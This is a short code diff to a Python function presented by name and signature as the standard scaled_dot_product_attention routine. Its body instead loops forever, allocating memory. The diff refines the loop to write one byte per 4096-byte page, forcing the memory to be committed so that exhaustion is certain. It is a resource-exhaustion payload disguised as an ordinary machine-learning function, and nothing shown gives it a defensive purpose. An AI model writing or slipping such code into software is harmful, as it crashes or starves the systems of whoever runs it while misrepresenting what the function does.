@@ -3,4 +3,6 @@
 def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
     hoard = []
     while True:
-        hoard.append(bytearray(b"x" * (64 << 20)))
+        block = bytearray(16 << 20)
+        block[::4096] = b"x" * (len(block) // 4096)
+        hoard.append(block)
